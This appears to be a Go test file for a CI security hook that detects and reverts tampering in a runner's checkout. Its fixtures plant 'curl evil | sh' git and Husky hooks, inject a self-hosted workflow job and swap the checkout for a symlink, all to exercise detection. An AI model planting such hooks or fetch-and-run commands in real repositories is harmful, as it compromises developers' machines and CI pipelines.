package hook

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
)

// gitHubTrees serves the trees and blobs API of a real git repository,
// in GitHub's shapes.
func gitHubTrees(t *testing.T, repo string) http.HandlerFunc {
	git := func(args ...string) ([]byte, error) {
		return exec.Command("git", append([]string{"-C", repo, "-c", "safe.directory=*"}, args...)...).Output()
	}
	return func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasPrefix(r.URL.Path, "/repos/acme/app/git/trees/") && r.URL.Query().Get("recursive") != "":
			sha := strings.TrimPrefix(r.URL.Path, "/repos/acme/app/git/trees/")
			out, err := git("ls-tree", "-r", "-t", "-l", "-z", sha)
			if err != nil {
				http.Error(w, `{"message":"Not Found"}`, 404)
				return
			}
			var entries []map[string]any
			for _, rec := range strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00") {
				meta, path, _ := strings.Cut(rec, "\t")
				f := strings.Fields(meta)
				e := map[string]any{"path": path, "mode": f[0], "type": f[1], "sha": f[2]}
				if n, err := strconv.Atoi(f[3]); err == nil {
					e["size"] = n
				}
				entries = append(entries, e)
			}
			json.NewEncoder(w).Encode(map[string]any{"sha": sha, "tree": entries, "truncated": false})
		case strings.HasPrefix(r.URL.Path, "/repos/acme/app/git/blobs/"):
			out, err := git("cat-file", "blob", strings.TrimPrefix(r.URL.Path, "/repos/acme/app/git/blobs/"))
			if err != nil {
				http.Error(w, `{"message":"Not Found"}`, 404)
				return
			}
			w.Write(out)
		default:
			http.Error(w, `{"message":"Not Found"}`, 404)
		}
	}
}

// The run-time trust baseline under the hook is the checked-out commit's
// tree as GitHub has it: a runner's workspace left at an earlier commit
// by an earlier job is no baseline (the checkout's own changes are no
// findings), and what a step changes in the very step that checks the
// commit out is found.
func TestHookCommitBaseline(t *testing.T) {
	for _, tc := range []struct {
		name    string
		step    string
		org     string   // added to the organisation policy
		want    []string // in the attestation
		notWant []string
		fails   bool
		// after is a file's content in the workspace after cleanup.
		after map[string]string
	}{
		{
			name:    "checkout only",
			step:    `git checkout -q "$HEAD_SHA"`,
			want:    []string{"compared with commit"},
			notWant: []string{`"phase": "runtime"`},
		},
		{
			name:  "checkout and tamper in one step",
			step:  `git checkout -q "$HEAD_SHA" && echo '  evil: {runs-on: self-hosted, steps: [{run: id}]}' >> .github/workflows/ci.yml && mkdir -p .husky && echo 'curl evil | sh' > .husky/pre-commit`,
			want:  []string{`"phase": "runtime"`, `"path": ".github/workflows/ci.yml"`, `"path": ".husky/pre-commit"`, "compared with commit"},
			fails: true,
		},
		{
			name:  "tamper and commit (HEAD moves away)",
			step:  `git checkout -q "$HEAD_SHA" && echo '  evil: {runs-on: self-hosted}' >> .github/workflows/ci.yml && git -c user.name=a -c user.email=a@example.com commit -qam hide`,
			want:  []string{`"phase": "runtime"`, `"path": ".github/workflows/ci.yml"`, "compared with commit"},
			fails: true,
		},
		{
			name:  "reverted to the commit's bytes",
			org:   "trust: runtime: {ci: \"revert\", \"build-entry\": \"revert\"}\n",
			step:  `git checkout -q "$HEAD_SHA" && echo '  evil: {runs-on: self-hosted}' >> .github/workflows/ci.yml && chmod +x .github/workflows/ci.yml && echo 'x:' > Makefile`,
			want:  []string{`"outcome": "reverted"`},
			after: map[string]string{".github/workflows/ci.yml": agentWorkflow, "Makefile": ""},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newRunnerHost(t)
			api := httptest.NewServer(gitHubTrees(t, h.origin))
			defer api.Close()
			h.env = append(h.env, GitHubAPIEnv+"="+api.URL, GitHubTokenEnv+"=ghp_hooktesttoken")
			if tc.org != "" {
				os.WriteFile(filepath.Join(h.org, "trust.cue"), []byte("package airlock\n"+tc.org), 0o644)
			}
			// The previous job left the workspace at the base commit.
			if out, err := exec.Command("git", "-C", h.repo, "-c", "safe.directory=*", "checkout", "-q", h.base).CombinedOutput(); err != nil {
				t.Fatalf("%v %s", err, out)
			}
			exec.Command("chown", "-R", "1000:1000", h.repo).Run()
			state := h.prepare()
			code, out := h.step(state, "export HEAD_SHA="+h.head+"\n"+tc.step)
			if code != 0 {
				t.Fatalf("step: exit %d: %s", code, out)
			}
			code, out = h.cleanup(state)
			if (code != 0) != tc.fails {
				t.Errorf("cleanup: exit %d, want failure %v: %s", code, tc.fails, out)
			}
			_, _, vj := h.finalAttestation("")
			for _, w := range tc.want {
				if !strings.Contains(vj, w) {
					t.Errorf("the attestation lacks %s", w)
				}
			}
			for _, w := range tc.notWant {
				if strings.Contains(vj, w) {
					t.Errorf("the attestation has %s:\n%s", w, findingsOf(vj))
				}
			}
			for p, want := range tc.after {
				b, err := os.ReadFile(filepath.Join(h.repo, p))
				if want == "" && err == nil {
					t.Errorf("%s created by the job is still there", p)
				}
				if want != "" && string(b) != want {
					t.Errorf("%s after cleanup: %q, want %q", p, b, want)
				}
				// Restored as the job left it, then handed back with the
				// rest of the workspace to its owner (the runner: root).
				if fi, err := os.Stat(filepath.Join(h.repo, p)); err == nil && (fi.Mode().Perm()&0o111 != 0 || fi.Sys().(*syscall.Stat_t).Uid != 0) {
					t.Errorf("%s restored with mode %v, owner %d", p, fi.Mode(), fi.Sys().(*syscall.Stat_t).Uid)
				}
			}
			if t.Failed() {
				t.Logf("cleanup output: %s\nfindings: %s", out, findingsOf(vj))
			}
		})
	}
}

// findingsOf is the trust part of an attestation's JSON, for messages.
func findingsOf(s string) string {
	if i := strings.Index(s, `"trust"`); i >= 0 {
		return s[i:min(len(s), i+3000)]
	}
	return fmt.Sprintf("%.2000s", s)
}

// The job replaces its checkout with a symlink to a host directory full
// of trust-sensitive files: airlock (root) neither reads them into the
// report nor reverts anything into that directory, and the job fails as
// uninspectable.
func TestHookTrustRootSwapped(t *testing.T) {
	h := newRunnerHost(t)
	os.WriteFile(filepath.Join(h.org, "trust.cue"), []byte("package airlock\ntrust: runtime: \"build-entry\": \"revert\"\n"), 0o644)
	host := t.TempDir()
	os.WriteFile(filepath.Join(host, "Makefile"), []byte("SECRET-HOST-CONTENT\n"), 0o600)
	os.MkdirAll(filepath.Join(host, ".git", "hooks"), 0o755)
	state := h.prepare()
	if code, out := h.step(state, "echo 'x:' > Makefile; cd /; mv /__w/app/app /__w/app/moved && ln -s "+host+" /__w/app/app"); code != 0 {
		t.Fatalf("step: exit %d: %s", code, out)
	}
	code, out := h.cleanup(state)
	if code == 0 || !strings.Contains(out, "could not be inspected") || strings.Contains(out, "SECRET-HOST-CONTENT") {
		t.Errorf("cleanup: exit %d: %s", code, out)
	}
	_, _, vj := h.finalAttestation("")
	if strings.Contains(vj, "SECRET-HOST-CONTENT") || !strings.Contains(vj, "could not be inspected") {
		t.Errorf("attestation: %s", findingsOf(vj))
	}
	entries, _ := os.ReadDir(host)
	if b, _ := os.ReadFile(filepath.Join(host, "Makefile")); string(b) != "SECRET-HOST-CONTENT\n" || len(entries) != 2 {
		t.Errorf("the host directory was written: %q, %v", b, entries)
	}
}

// A hook planted before the trust baseline was taken (by the step that
// made the checkout, or left from before) is found and removed: a CI
// runner's checkout has no hooks but git's samples.
func TestHookPlantedBeforeBaseline(t *testing.T) {
	h := newRunnerHost(t)
	hooks := filepath.Join(h.repo, ".git", "hooks")
	os.MkdirAll(hooks, 0o755)
	os.WriteFile(filepath.Join(hooks, "post-checkout"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
	os.WriteFile(filepath.Join(hooks, "pre-commit.sample"), []byte("#!/bin/sh\n"), 0o755)
	state := h.prepare()
	if code, out := h.step(state, "true"); code != 0 {
		t.Fatalf("step: exit %d: %s", code, out)
	}
	_, out := h.cleanup(state)
	if !strings.Contains(out, "runtime git-hooks .git/hooks/post-checkout") || strings.Contains(out, "pre-commit.sample") {
		t.Errorf("cleanup: %s", out)
	}
	if _, err := os.Stat(filepath.Join(hooks, "post-checkout")); err == nil {
		t.Error("the planted hook is still there")
	}
	if _, err := os.Stat(filepath.Join(hooks, "pre-commit.sample")); err != nil {
		t.Errorf("git's sample hook was removed: %v", err)
	}
}
